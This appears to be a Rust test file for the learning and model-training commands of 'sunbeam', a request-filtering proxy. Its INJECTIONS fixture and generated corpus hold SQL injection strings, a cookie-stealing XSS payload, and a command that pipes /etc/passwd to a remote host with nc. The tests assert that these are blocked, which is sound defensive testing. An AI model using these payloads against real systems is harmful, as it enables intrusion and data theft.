// SPDX-License-Identifier: Apache-2.0
//! `learn`, `train-mlp-scanner`, `train-mlp-ddos` and `sweep-cookie-weight` (rows D17, J04, J05, J06).
#![allow(clippy::unwrap_used, reason = "a helper that fails fails the test that called it")]

use std::os::unix::process::ExitStatusExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use sunbeam_datasets::container::Writer;
use sunbeam_datasets::{BodyKind, Label, LabelSource, Record};
use sunbeam_testkit::{TestFolder, TestKey, eventually, free_address};

use crate::program::{Serving, sunbeam, told};

/// Runs with the day given, so that cards are the same whenever the tests run.
pub(crate) fn run(folder: &TestFolder, arguments: &[&str]) -> (i32, String, String) {
    let mut command = sunbeam(folder);
    told(&command.args(arguments).env("SOURCE_DATE_EPOCH", "1764000000").output().unwrap())
}

pub(crate) fn json_of(folder: &TestFolder, arguments: &[&str]) -> (i32, Value) {
    let (code, out, err) = run(folder, &[arguments, &["-o", "json"]].concat());
    let value = serde_json::from_str(&out).unwrap_or_else(|error| panic!("{error}: {code} {out}{err}"));
    (code, value)
}

pub(crate) fn text(path: &Path) -> String {
    path.display().to_string()
}

pub(crate) fn names(folder: &Path) -> Vec<String> {
    let entries = std::fs::read_dir(folder).map(|entries| {
        entries.map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned()).collect()
    });
    let mut names: Vec<String> = entries.unwrap_or_default();
    names.sort();
    names
}

/// Seconds since the beginning of the log, a client, a path and a query.
fn line(second: u32, client: &str, path: &str, query: &str) -> String {
    let (hour, minute, second) = (8 + second / 3600, second / 60 % 60, second % 60);
    json!({
        "target": "audit", "timestamp": format!("2025-11-23T{hour:02}:{minute:02}:{second:02}.000001Z"),
        "method": "GET", "host": "site.test", "path": path, "query": query, "client_ip": client, "status": 200,
        "duration_ms": 12, "content_length": 0, "accept": "text/html", "accept_language": "de",
        "user_agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "referer": "https://site.test/", "has_cookies": true, "backend": "http://a", "error": null,
    })
    .to_string()
}

/// One of several, the same each time.
pub(crate) fn pick<'a>(items: &[&'a str], at: usize) -> &'a str {
    items[at.wrapping_mul(2_654_435_761) / 97 % items.len()]
}

pub(crate) fn encoded(text: &str) -> String {
    text.bytes()
        .map(
            |byte| {
                if byte.is_ascii_alphanumeric() {
                    char::from(byte).to_string()
                } else {
                    format!("%{byte:02X}")
                }
            },
        )
        .collect()
}

/// A hundred visits of a site, each of fourteen requests; every third asks what `query` says.
pub(crate) fn visits(query: impl Fn(usize) -> String) -> Vec<String> {
    let pages = ["/", "/console", "/tables", "/help", "/history"];
    let mut lines = Vec::new();
    for visit in 0..100_u32 {
        let client = format!("192.0.2.{}", visit % 40 + 1);
        for step in 0..14_u32 {
            let (second, at) = (visit * 100 + step * 2, lines.len());
            lines.push(match step % 3 {
                2 => line(second, &client, "/run", &format!("q={}", encoded(&query(at)))),
                _ => line(second, &client, pick(&pages, at), ""),
            });
        }
    }
    lines
}

/// What people of the made-up site write, who work on its rules: every text is another.
fn of_console(at: usize) -> String {
    let words = ["save", "more", "open", "send", "cancel", "next", "hide"];
    let (word, other) = (pick(&words, at), pick(&words, at * 3 + 2));
    match at / 3 % 3 {
        0 => format!("{word} && {other} || !{word} == {at}"),
        1 => format!("({word} || {other}) && !({other} && {word}) {at}"),
        _ => format!("!{word} || {other} && {word} == {at}"),
    }
}

/// What people of a shop write.
pub(crate) fn of_shop(at: usize) -> String {
    let words = ["red", "blue", "shoes", "lamp", "table", "cheap", "garden", "winter", "book", "chair"];
    format!("{} {} {}", pick(&words, at), pick(&words, at + 5), pick(&words, at * 7 + 3))
}

/// Injections that no site's visitors write.
const INJECTIONS: [&str; 6] = [
    "1' union select password from users-- ",
    "2' union select passwd, name from users-- ",
    "x' union select login from members#",
    "1' or '1'='1",
    "<script>alert(document.cookie)</script>",
    "; cat /etc/passwd | nc 198.51.100.9 4444",
];

/// Decisions of a replay through a model.
fn decisions(folder: &TestFolder, log: &str, model: Option<&str>) -> Vec<String> {
    let verdicts = text(&folder.join("verdicts.jsonl"));
    let mut arguments = vec!["replay", "--input", log, "--only", "scanner", "--verdicts", &verdicts];
    arguments.extend(model.iter().flat_map(|model| ["--model", model]));
    let (code, out, err) = run(folder, &arguments);
    assert_eq!(code, 0, "{out}{err}");
    let lines = std::fs::read_to_string(&verdicts).unwrap();
    lines
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap()["decision"].as_str().unwrap().to_owned())
        .collect()
}

fn injections(folder: &TestFolder) -> String {
    let lines: Vec<String> = INJECTIONS
        .iter()
        .map(|text| line(0, "203.0.113.5", "/run", &format!("q={}", encoded(text))))
        .collect();
    text(&folder.write("injections.jsonl", lines.join("\n")))
}

#[test]
fn learning_a_site_lets_its_people_be_and_still_stops_attacks() {
    let folder = TestFolder::new();
    let log = text(&folder.write("site.jsonl", visits(of_console).join("\n")));
    let out = folder.join("learned");
    let learn = ["learn", "--input", &log, "--output-dir", &text(&out)];
    let (code, learned) = json_of(&folder, &learn);
    assert_eq!(code, 0, "{learned}");
    let scanner = &learned["detectors"]["scanner"];
    assert_eq!(scanner["verdict"], "better", "{learned}");
    let share = |of: &str, who: &str| scanner[of][who]["share"].as_f64().unwrap();
    let (before, after) = (share("benign", "stopped_in_use"), share("benign", "stopped_by_the_candidate"));
    assert!(before > 0.2 && after < before * 0.6, "{before} {after}");
    assert!(share("attack", "stopped_by_the_candidate") > 0.99, "{scanner}");
    for row in scanner["robustness"].as_array().unwrap() {
        assert_eq!(row["stopped"], row["stopped_then"], "{row}");
    }
    assert_eq!(names(&out), ["ddos.model", "report.html", "scanner.model"]);
    // What it said of the later stretch holds on the whole way of a request.
    let model = text(&out.join("scanner.model"));
    let later: Vec<String> = visits(|at| of_console(at + 5)).split_off(1_000);
    let later = text(&folder.write("later.jsonl", later.join("\n")));
    let doubted = |model: Option<&str>| {
        decisions(&folder, &later, model).iter().filter(|decision| *decision != "pass").count()
    };
    let (before, after) = (doubted(None), doubted(Some(&model)));
    assert!(after < before, "{before} {after}");
    assert_eq!(decisions(&folder, &injections(&folder), Some(&model)), ["block"; INJECTIONS.len()]);
    let page = std::fs::read_to_string(out.join("report.html")).unwrap();
    for part in
        ["benign doubted", "an innocent parameter beside it", "neither cookies nor a referer", "calm-visit"]
    {
        assert!(page.contains(part), "{part} is missing in the report");
    }
    for outside in ["src=\"http", "href=\"http", "@import", "url(http"] {
        assert!(!page.contains(outside), "{outside} is in the report");
    }
    let info = json_of(&folder, &["model", "info", &model]).1;
    assert_eq!(info["card"]["trained_at"], "2025-11-24", "{info}");
    assert!(info["card"]["data"].as_str().unwrap().contains("site.jsonl "), "{info}");
    assert!(info["card"]["scores"].as_str().unwrap().contains("texts doubted"), "{info}");
    // The same log and seed give the same bytes; another seed may not.
    let hashes =
        |told: &Value| ["scanner", "ddos"].map(|detector| told["detectors"][detector]["sha256"].clone());
    assert_eq!(hashes(&json_of(&folder, &learn).1), hashes(&learned));
    let (_, out, _) = run(&folder, &learn);
    assert!(out.contains("better") && out.contains("DOUBTED BY THE CANDIDATE"), "{out}");
}

/// A line of a labelled corpus: a form of a made-up application.
fn form(at: usize, name: &str, age: &str, label: u8) -> String {
    let target = format!("/register?user=person{at}&{name}={age}&send=ok");
    let headers = json!({
        "Host": "club.test", "Accept": "text/html", "Accept-Language": "de",
        "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    });
    json!({"src": "club", "label": label, "cls": "form", "method": "GET", "target": target, "headers": headers, "body": ""})
        .to_string()
}

#[test]
fn what_is_odd_for_one_application_is_learned_from_its_labels_and_doubted() {
    let folder = TestFolder::new();
    let age = |at: usize| (17 + at * 7 % 70).to_string();
    let odd = |at: usize| match at % 2 {
        0 => form(at, "agee", &age(at), 1),
        _ => form(at, "age", &format!("{}x", age(at)), 1),
    };
    let lines: Vec<String> =
        (0..1500).map(|at| form(at, "age", &age(at), 0)).chain((0..800).map(odd)).collect();
    let log = text(&folder.write("club.jsonl", lines.join("\n")));
    let out = text(&folder.join("learned"));
    let (code, learned) = json_of(&folder, &["learn", "--input", &log, "--output-dir", &out]);
    assert_eq!(code, 0, "{learned}");
    let scanner = &learned["detectors"]["scanner"];
    assert_eq!(scanner["verdict"], "better", "{learned}");
    let rank = |whose: &str| scanner["ranking_of_the_log"][whose]["auc"].as_f64().unwrap();
    assert!(rank("candidate") > 0.99 && rank("in_use") < 0.9, "{scanner}");
    let model = text(&folder.join("learned/scanner.model"));
    let (code, told, err) = run(&folder, &["model", "info", &model]);
    assert!(code == 0 && told.contains("known, asked about 1 host"), "{told}{err}");
    let (_, info) = json_of(&folder, &["model", "info", &model]);
    assert_eq!(info["application"], json!({"is_known": true, "hosts": 1}));
    let (_, info) = json_of(&folder, &["model", "info", "scanner"]);
    assert_eq!(info["application"], json!({"is_known": false, "hosts": null}));
    let later: Vec<String> =
        [form(2001, "age", "41", 0), form(2002, "agee", "41", 1), form(2003, "age", "41x", 1)].into();
    // What is odd for this site is nothing to another one on the same node.
    let elsewhere: Vec<String> = later.iter().map(|line| line.replace("club.test", "shop.test")).collect();
    let elsewhere = text(&folder.write("elsewhere.jsonl", elsewhere.join("\n")));
    assert_eq!(decisions(&folder, &elsewhere, Some(&model)), ["pass"; 3]);
    let later = text(&folder.write("later.jsonl", later.join("\n")));
    assert_eq!(decisions(&folder, &later, None), ["pass"; 3]);
    assert_eq!(decisions(&folder, &later, Some(&model)), ["pass", "observe", "observe"]);
    let verdicts = std::fs::read_to_string(folder.join("verdicts.jsonl")).unwrap();
    assert_eq!(verdicts.matches("\"reason\":\"application\"").count(), 2, "{verdicts}");
    let config = folder.write(
        "sunbeam.toml",
        format!("[[routes]]\nhost = \"club.test\"\nbackend = \"http://127.0.0.1:9\"\n\n[scanner]\nmodel = {model:?}\n"),
    );
    let url = "http://club.test/register?user=person9&age=41x&send=ok";
    let explain = ["--config", &text(&config), "explain", "--offline", "GET", url];
    let (code, said, err) = run(&folder, &explain);
    assert_eq!(code, 0, "{said}{err}");
    assert!(said.contains("application") && said.contains("its value `age` most"), "{said}");
}

#[test]
fn a_thousand_copies_of_an_attack_labelled_benign_change_no_verdict() {
    let folder = TestFolder::new();
    let site = text(&folder.write("shop.jsonl", visits(of_shop).join("\n")));
    let query = format!("q={}", encoded("1' union select password from users-- "));
    let copies: Vec<String> = (0..1000).map(|at| line(at, "198.51.100.7", "/run", &query)).collect();
    let copies = text(&folder.write("copies.jsonl", copies.join("\n")));
    let labelled = text(&folder.join("labelled.bin"));
    let prepare = ["prepare-dataset", "--input", &site, &copies, "--label", "benign", "--output", &labelled];
    assert_eq!(run(&folder, &prepare).0, 0);
    let (log, out) = (injections(&folder), text(&folder.join("learned")));
    for (name, input) in [("somebody's word", vec![&*labelled]), ("a rule's word", vec![&*site, &*copies])] {
        let arguments = [&["learn", "--output-dir", &out, "--input"], &input[..]].concat();
        let (code, learned) = json_of(&folder, &arguments);
        assert_eq!(code, 0, "{name}: {learned}");
        let model = text(&folder.join("learned/scanner.model"));
        assert_eq!(decisions(&folder, &log, Some(&model)), ["block"; INJECTIONS.len()], "{name}");
    }
}

#[test]
fn what_cannot_be_learned_from_is_refused_with_its_reason_and_leaves_nothing() {
    let folder = TestFolder::new();
    let log = visits(of_shop);
    let whole = text(&folder.write("whole.jsonl", log.join("\n")));
    let few = text(&folder.write("few.jsonl", log[..150].join("\n")));
    let empty = text(&folder.write("empty.jsonl", ""));
    let attacks = text(&folder.join("attacks.bin"));
    let prepare = ["prepare-dataset", "--input", &whole, "--label", "attack", "--output", &attacks];
    assert_eq!(run(&folder, &prepare).0, 0);
    let missing = text(&folder.join("missing"));
    let nobody = format!("http://{}", free_address());
    let file = text(&folder.write("file", "x"));
    for (name, arguments, code, part) in [
        ("nothing", &["--input", &empty][..], 2, "format"),
        ("missing", &["--input", &missing], 2, "missing"),
        ("too few", &["--input", &few], 1, "at least 200 are needed"),
        ("attacks only", &["--input", &attacks], 1, "0 labelled benign requests"),
        ("no rules", &["--input", &whole, "--heuristics", "none"], 1, "--heuristics none"),
        ("no such share", &["--input", &whole, "--latest", "1.5"], 2, "0.05 to 0.95"),
        ("no data set", &["--input", &whole, "--dataset", &whole], 1, "no data set"),
        ("no model", &["--input", &whole, "--model", &whole], 1, "no model file"),
        ("no node", &["--input", &whole, "--install", "--node", &nobody], 3, "reach"),
    ] {
        let out = text(&folder.join("out"));
        let more = ["--output-dir", &out, "--token-file", &file];
        let (got, told, err) = run(&folder, &[&["learn"], arguments, &more].concat());
        assert_eq!(got, code, "{name}: {told}{err}");
        assert!(err.contains(part), "{name}: {err}");
        assert_eq!(names(&folder.join("out")), [""; 0], "{name}");
    }
    let (code, _, err) = run(&folder, &["learn", "--input", &whole, "--output-dir", &file]);
    assert!(code != 0 && err.contains("file"), "{code} {err}");
}

#[test]
fn learning_that_is_interrupted_leaves_no_half_file() {
    let folder = TestFolder::new();
    let out = folder.join("learned");
    let mut child = sunbeam(&folder)
        .args(["learn", "--input", "-", "--format", "audit", "--output-dir", &text(&out)])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // It has begun, and waits for the log that does not come.
    eventually("the folder is made", || out.is_dir().then_some(()));
    assert!(Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap().success());
    let ended = child.wait().unwrap();
    assert_eq!(ended.signal(), Some(2), "{ended}");
    assert_eq!(names(&out), [""; 0]);
}

#[test]
fn a_node_tries_what_was_learned_and_takes_it_by_itself_or_by_force_at_once() {
    let folder = TestFolder::new();
    let log = text(&folder.write("site.jsonl", visits(of_console).join("\n")));
    let node = Serving::start("");
    let out = text(&folder.join("learned"));
    let learn = ["learn", "--input", &log, "--output-dir", &out, "--install"];
    let (code, told, err) = node.ask(&learn);
    assert_eq!(code, 0, "{told}{err}");
    let part = "the model of `scanner` is tried beside the one in use; the node takes it after 1,000 requests if it is no worse";
    assert!(told.contains("better") && told.contains(part), "{told}{err}");
    assert_eq!(names(&folder.join("learned")), ["ddos.model", "report.html", "scanner.model"]);
    let (_, status, err) = node.ask(&["model", "status"]);
    assert!(
        status.contains("the node takes it by itself") && status.contains("0 requests only"),
        "{status}{err}"
    );
    let (code, told, err) = node.ask(&[&learn[..], &["--force"]].concat());
    assert_eq!(code, 0, "{told}{err}");
    assert!(told.contains("installed the model of `scanner`") && told.contains("undo"), "{told}{err}");
    let (_, status, err) = node.ask(&["model", "status"]);
    assert!(status.contains("installed"), "{status}{err}");
    let (code, _, err) = run(&folder, &["learn", "--input", &log, "--force"]);
    assert!(code == 2 && err.contains("--install"), "{code} {err}");
}

/// A page that looks like a probe, which everybody asks for and the site serves.
fn log_page(visit: usize) -> String {
    line(u32::try_from(visit).unwrap() * 100 + 50, &format!("192.0.2.{}", visit % 40 + 1), "/backup.zip", "")
}

#[test]
fn pages_that_are_doubted_for_their_path_are_told_with_what_can_be_done() {
    let folder = TestFolder::new();
    let lines: Vec<String> = visits(of_shop)
        .chunks(14)
        .enumerate()
        .flat_map(|(visit, lines)| [lines, &[log_page(visit)]].concat())
        .collect();
    let log = text(&folder.write("site.jsonl", lines.join("\n")));
    let out = text(&folder.join("learned"));
    // No rule of thumb calls somebody calm who asks for such a page: a person does.
    let set = text(&folder.join("set.bin"));
    let prepare = ["prepare-dataset", "--input", &log, "--label", "benign", "--output", &set];
    assert_eq!(run(&folder, &prepare).0, 0);
    let log = set;
    let (_, learned) = json_of(&folder, &["learn", "--input", &log, "--output-dir", &out]);
    let scanner = &learned["detectors"]["scanner"];
    assert_eq!(scanner["benign"]["stopped_in_use"]["number"], 0, "of texts there is nothing: {scanner}");
    let layer = &scanner["layer"];
    assert!(layer["doubted_in_use"].as_u64() > Some(20), "{layer}");
    assert_eq!(layer["doubted_in_use"], layer["doubted_by_the_candidate"], "{layer}");
    assert_eq!(scanner["verdict"], "nothing that learning mends", "{scanner}");
    let pages = learned["likely_mistakes"].as_array().unwrap();
    let page = pages.iter().find(|page| page["path"] == "/backup.zip").unwrap();
    assert_eq!((&page["requests"], &page["clients"], &page["blocked"]), (&json!(100), &json!(16), &json!(0)));
    let (_, told, err) = run(&folder, &["learn", "--input", &log, "--output-dir", &out]);
    assert!(told.contains("LIKELY MISTAKE") && told.contains("16 and more"), "{told}{err}");
    assert!(err.contains("likely mistakes") && err.contains("protect = { scanner"), "{err}");
    let report = std::fs::read_to_string(folder.join("learned/report.html")).unwrap();
    assert!(report.contains("/backup.zip") && report.contains("layers of a node"), "it is in the report too");
    // A configuration that takes the models' say away has nothing to mend.
    let config = text(&folder.write("sunbeam.toml", "scanner.threshold = 1.0\n"));
    let (_, learned) =
        json_of(&folder, &["--config", &config, "learn", "--input", &log, "--output-dir", &out]);
    assert_eq!(learned["detectors"]["scanner"]["layer"]["doubted_in_use"], 0, "{learned}");
}

#[test]
fn a_learned_model_is_at_home_in_the_log_that_it_was_learned_from() {
    let folder = TestFolder::new();
    let log = text(&folder.write("site.jsonl", visits(of_console).join("\n")));
    let drift = |out: &str, input: &str, models: &[&str]| {
        let out = text(&folder.join(out));
        let arguments = [&["learn", "--input", input, "--output-dir", &out], models].concat();
        json_of(&folder, &arguments).1["detectors"]["scanner"]["drift"].clone()
    };
    let before = drift("first", &log, &[]);
    assert_eq!((&before["rows"], &before["verdict"]), (&json!(1400), &json!("shifted")), "{before}");
    let model = text(&folder.join("first/scanner.model"));
    let after = drift("second", &log, &["--model", &model]);
    assert!(after["worst"].as_f64() < Some(0.02), "what was learned here is at home here: {after}");
    // Fewer rows than a node asks for say nothing.
    let few = text(&folder.write("few.jsonl", visits(of_console)[..990].join("\n")));
    let few = drift("third", &few, &[]);
    assert_eq!((&few["rows"], &few["worst"]), (&json!(990), &Value::Null), "{few}");
}

#[test]
fn records_without_a_time_are_counted_and_said() {
    let folder = TestFolder::new();
    let timeless = |line: &String| {
        let mut line: Value = serde_json::from_str(line).unwrap();
        line["timestamp"] = "yesterday".into();
        line.to_string()
    };
    let lines = visits(of_shop);
    let half: Vec<String> = lines
        .iter()
        .enumerate()
        .map(|(at, line)| if at % 10 == 0 { timeless(line) } else { line.clone() })
        .collect();
    let (none, half) = (
        text(&folder.write("none.jsonl", lines.iter().map(timeless).collect::<Vec<_>>().join("\n"))),
        text(&folder.write("half.jsonl", half.join("\n"))),
    );
    let out = text(&folder.join("out"));
    let (code, _, err) = run(&folder, &["learn", "--input", &none, "--output-dir", &out]);
    assert!(code == 1 && err.contains("1400 of 1400 records tell no time"), "{code} {err}");
    let (_, learned) = json_of(&folder, &["learn", "--input", &half, "--output-dir", &out]);
    assert_eq!(learned["untimed"], 140, "{learned}");
    let set = text(&folder.join("set.bin"));
    let (code, told) = json_of(&folder, &["prepare-dataset", "--input", &half, "--output", &set]);
    assert_eq!((code, &told["untimed"]), (0, &json!(140)), "{told}");
    assert!(told["warnings"].to_string().contains("140 of 1400 records tell no time"), "{told}");
}

#[test]
fn a_node_that_asks_for_signatures_is_not_learned_for_in_vain() {
    let folder = TestFolder::new();
    let key = TestKey::new(&folder, "key", "ed25519");
    let node = Serving::start(&format!("[detection]\nmodel_public_key = {:?}\n", key.public));
    let log = text(&folder.write("site.jsonl", visits(of_console).join("\n")));
    let out = text(&folder.join("learned"));
    let (code, told, err) = node.ask(&["learn", "--input", &log, "--output-dir", &out, "--install"]);
    assert_eq!(code, 2, "{told}{err}");
    assert!(err.contains("key.pub.pem") && err.contains("model sign"), "{err}");
    assert!(!folder.join("learned").exists(), "nothing was begun");
}

pub(crate) fn recordings() -> String {
    text(&PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../learning/traces/traffic.jsonl.zst"))
}

/// A word of its own for each number: to the model of texts all digits are one.
pub(crate) fn word(at: usize) -> String {
    at.to_string().bytes().map(|digit| char::from(digit - b'0' + b'a')).collect()
}

/// Texts of a corpus, of fifty groups of each kind.
fn corpus() -> String {
    let row = |at: usize| {
        let is_attack = at.is_multiple_of(2);
        let text = match is_attack {
            true => {
                let name = word(at);
                format!(
                    "{}{at}' union select {name} from users where {name}={at}-- ",
                    pick(&["a", "x", "1"], at)
                )
            }
            false => format!("{} {} for {} people", of_shop(at), word(at), at),
        };
        json!({
            "src": "notes", "label": u8::from(is_attack), "cls": "note", "method": "GET", "headers": {},
            "target": format!("/?note={}", encoded(&text)), "grp": format!("g{}", "abcdefghij".repeat(at % 50 + 1)),
            "body": "",
        })
        .to_string()
    };
    (0..400).map(row).collect::<Vec<_>>().join("\n")
}

fn data_set(folder: &TestFolder) -> String {
    let (texts, set) = (text(&folder.write("texts.jsonl", corpus())), text(&folder.join("set.bin")));
    let (code, out, err) =
        run(folder, &["prepare-dataset", "--input", &texts, &recordings(), "--output", &set]);
    assert_eq!(code, 0, "{out}{err}");
    set
}

#[test]
fn models_are_trained_from_a_data_set_and_again_the_same() {
    let folder = TestFolder::new();
    let set = data_set(&folder);
    for (detector, parts) in [("scanner", ["texts", "requests"]), ("ddos", ["windows", "sessions"])] {
        let command = format!("train-mlp-{detector}");
        let train = |out: &str, more: &[&str]| {
            let out = text(&folder.join(out));
            let arguments = [&*command, "--dataset", &set, "--output-dir", &out, "--epochs", "3"];
            let (code, told) = json_of(&folder, &[&arguments, more].concat());
            assert_eq!(code, 0, "{told}");
            told
        };
        let first = train("first", &["--hidden-dim", "8"]);
        let judged = first["parts"].as_array().unwrap();
        for part in parts {
            assert!(judged.iter().any(|row| row["judged"] == part), "{part}: {first}");
        }
        train("second", &["--hidden-dim", "8"]);
        train("other", &["--hidden-dim", "8", "--seed", "2"]);
        let model = |out: &str| std::fs::read(folder.join(&format!("{out}/{detector}.model"))).unwrap();
        assert!(model("first") == model("second") && model("first") != model("other"), "{detector}");
        let path = text(&folder.join(&format!("first/{detector}.model")));
        let card = json_of(&folder, &["model", "info", &path]).1["card"].clone();
        assert_eq!(
            (&card["epochs"], &card["hidden"], &card["seed"]),
            (&json!("3"), &json!("8"), &json!("1"))
        );
        assert!(card["data"].as_str().unwrap().contains("set.bin ") && card["scores"].is_string(), "{card}");
        let code = std::fs::read_to_string(folder.join(&format!("first/{detector}.rs"))).unwrap();
        assert!(code.contains("pub static MODEL") && code.contains("FINGERPRINT"));
        let page = std::fs::read_to_string(folder.join(&format!("first/{detector}.html"))).unwrap();
        assert!(page.contains("trained_at") && !page.contains("src=\"http"), "{detector}");
        let (code, out, err) = run(&folder, &["replay", "--input", &recordings(), "--model", &path]);
        assert_eq!(code, 0, "{out}{err}");
    }
    let all = ["ddos.html", "ddos.model", "ddos.rs", "scanner.html", "scanner.model", "scanner.rs"];
    assert_eq!(names(&folder.join("first")), all);
}

/// A data set that nobody cleaned.
fn raw_set(folder: &TestFolder, name: &str, records: &[Record]) -> String {
    let path = folder.join(name);
    let mut writer = Writer::create(&path).unwrap();
    records.iter().for_each(|record| writer.write(record).unwrap());
    writer.finish("", Vec::new()).unwrap();
    text(&path)
}

/// A request with a note, in a group of its own.
fn note(text: &str, label: Label, group: usize) -> Record {
    Record {
        source: "notes".to_owned(),
        group: format!("group {group}"),
        label: Some(label),
        label_source: LabelSource::Corpus,
        weight_percent: 100,
        method: "POST".to_owned(),
        path: "/".to_owned(),
        body: format!("note={}", encoded(text)).into_bytes(),
        body_kind: BodyKind::Form,
        ..Record::default()
    }
}

#[test]
fn data_sets_that_would_teach_wrongly_are_refused_by_name() {
    let folder = TestFolder::new();
    let notes = |label: fn(usize) -> Label, what: fn(usize) -> String| -> Vec<Record> {
        (0..60).map(|at| note(&what(at), label(at), at)).collect()
    };
    let either = |at: usize| if at.is_multiple_of(2) { Label::Attack } else { Label::Benign };
    let one = raw_set(&folder, "one.bin", &notes(|_| Label::Benign, of_shop));
    let copied = raw_set(&folder, "copied.bin", &notes(either, |_| "the same note".to_owned()));
    let texts = raw_set(&folder, "texts.bin", &notes(either, |at| format!("{} {at}", of_shop(at))));
    let both = raw_set(&folder, "both.bin", &clients());
    let mut bytes = std::fs::read(&texts).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    let tampered = text(&folder.write("tampered.bin", bytes));
    let plain = text(&folder.write("plain.txt", "hello\n"));
    let missing = text(&folder.join("missing.bin"));
    for (name, command, set, more, code, part) in [
        ("one class", "train-mlp-scanner", &one, &[][..], 1, "and 0 attacks: it needs both"),
        ("copies", "train-mlp-scanner", &copied, &[], 1, "1 requests are on both sides: `POST /`"),
        ("no headers", "train-mlp-scanner", &texts, &[], 1, "requests with headers of their own"),
        ("no windows", "train-mlp-ddos", &texts, &[], 1, "all 0 rows are of one class"),
        ("clients", "train-mlp-ddos", &both, &[], 1, "clients are on both sides: `log 192.0.2."),
        ("tampered", "train-mlp-scanner", &tampered, &[], 1, "checksum"),
        ("no data set", "train-mlp-ddos", &plain, &[], 1, "no data set"),
        ("missing", "train-mlp-ddos", &missing, &[], 2, "missing.bin"),
        (
            "burn",
            "train-mlp-scanner",
            &texts,
            &["--engine", "burn"],
            2,
            "this build has no `training` feature",
        ),
        (
            "burn on a GPU",
            "train-mlp-ddos",
            &texts,
            &["--engine", "burn-gpu"],
            2,
            "this build has no `training-gpu` feature",
        ),
        ("too wide", "train-mlp-ddos", &texts, &["--hidden-dim", "33"], 2, "33"),
        ("no rounds", "train-mlp-ddos", &texts, &["--epochs", "0"], 2, "0"),
        ("no weight", "train-mlp-scanner", &texts, &["--cookie-weight", "2"], 2, "from 0 to 1"),
    ] {
        let out = text(&folder.join("out"));
        let arguments = [&[command, "--dataset", set, "--output-dir", &out], more].concat();
        let (got, told, err) = run(&folder, &arguments);
        assert_eq!(got, code, "{name}: {told}{err}");
        assert!(err.contains(part), "{name}: {err}");
        assert_eq!(names(&folder.join("out")), [""; 0], "{name}");
    }
}

/// Clients that are visitors first and attackers of two kinds then.
fn clients() -> Vec<Record> {
    let mut records = Vec::new();
    for client in 0..40_i64 {
        for step in 0..30_i64 {
            records.push(Record {
                source: "log".to_owned(),
                class: ["flood", "visit", "scan"][usize::try_from(step / 15 * (1 + client % 2)).unwrap() % 3]
                    .to_owned(),
                client: format!("192.0.2.{client}"),
                label: Some(if step < 15 { Label::Benign } else { Label::Attack }),
                at_micros: Some(1_700_000_000_000_000 + step * 1_000_000),
                ..note("a note", Label::Benign, 0)
            });
        }
    }
    records
}

#[test]
fn a_sweep_shows_what_a_cookie_is_worth_and_that_it_decides_nothing() {
    let folder = TestFolder::new();
    let set = data_set(&folder);
    let page = text(&folder.join("sweep.html"));
    for detector in ["scanner", "ddos"] {
        let sweep = ["sweep-cookie-weight", "--dataset", &set, "--detector", detector, "--seeds", "1,2"];
        let more = ["--weights", "0,1", "--output", &page];
        let (code, swept) = json_of(&folder, &[&sweep[..], &more].concat());
        assert_eq!(code, 0, "{swept}");
        let trials = swept["trials"].as_array().unwrap();
        assert_eq!(trials.len(), 4, "{swept}");
        for trial in trials {
            let deciding = &trial["deciding"];
            assert_eq!(deciding["found"], deciding["found_spoofed"], "{detector}: {trial}");
            let raw = &trial["raw"];
            assert!(trial["weight"] != 0.0 || raw["found"] == raw["found_spoofed"], "{detector}: {trial}");
        }
        assert!(std::fs::read_to_string(&page).unwrap().contains("What decides"));
    }
    let sweep = |more: &[&str]| {
        run(&folder, &[&["sweep-cookie-weight", "--dataset", &set, "--detector", "scanner"], more].concat())
    };
    let (code, out, err) = sweep(&["--feature", "nonsense"]);
    assert!(code == 2 && err.contains("has no such feature; it has "), "{code} {out}{err}");
    let (code, _, err) = sweep(&["--weights", "0,3"]);
    assert!(code == 2 && err.contains("from 0 to 1"), "{code} {err}");
    let (code, out, err) = sweep(&["--weights", "1", "--seeds", "1"]);
    assert!(code == 0 && out.contains("chosen") && out.contains("FOUND AT 1 %"), "{code} {out}{err}");
}
